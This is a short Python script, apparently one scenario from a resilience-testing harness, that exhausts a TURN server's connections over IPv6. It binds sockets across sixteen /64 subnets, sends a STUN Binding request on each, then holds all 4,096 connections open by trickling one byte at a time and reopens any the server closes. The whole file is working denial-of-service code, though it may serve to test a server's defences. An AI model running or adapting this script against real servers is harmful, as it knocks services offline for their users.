"""All connections of the server held by one subscriber of IPv6, who has a /60: 256 from each of its 16
/64s, a Binding request once, then a byte at a time. What the server closes is opened again."""
import socket
import time

import attack
import turn

EACH = 256
NETWORKS = 16


def main():
    attack.allow_many_descriptors()
    connections, attempts, closed = {}, 0, 0
    while attack.goes_on():
        began = time.monotonic()
        for place in range(NETWORKS * EACH):
            if not attack.goes_on() or time.monotonic() - began > 4:
                break
            stream = connections.get(place)
            try:
                if stream is None:
                    stream = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                    connections[place] = stream
                    attempts += 1
                    stream.bind((f"2a0b:2:0:{place // EACH:x}::2", 0))
                    stream.settimeout(0.5)
                    stream.connect((turn.SERVER_V6, turn.PORT))
                    stream.send(turn.message(turn.BINDING))
                    stream.setblocking(False)
                    continue
                # The answer to the Binding request, or the end.
                if stream.recv(100) == b"":
                    raise ConnectionResetError
                stream.send(b"\0")
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
                stream.close()
                del connections[place]
        attack.begun()
        time.sleep(0.5)
    attack.report(attempts=attempts, held=len(connections), closed=closed)


main()
